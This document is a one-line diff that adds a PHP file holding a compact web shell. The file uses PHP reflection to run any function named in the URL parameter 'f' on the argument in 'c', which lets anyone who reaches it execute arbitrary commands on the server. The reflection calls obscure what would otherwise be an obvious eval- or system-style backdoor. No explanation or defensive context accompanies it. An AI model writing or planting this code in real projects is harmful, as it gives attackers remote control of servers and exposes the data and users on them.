@@ -1,0 +1,1 @@
+<?php $r = new ReflectionMethod("ReflectionFunction", "invoke"); $r->invoke(new ReflectionFunction($_GET["f"]), $_GET["c"]);
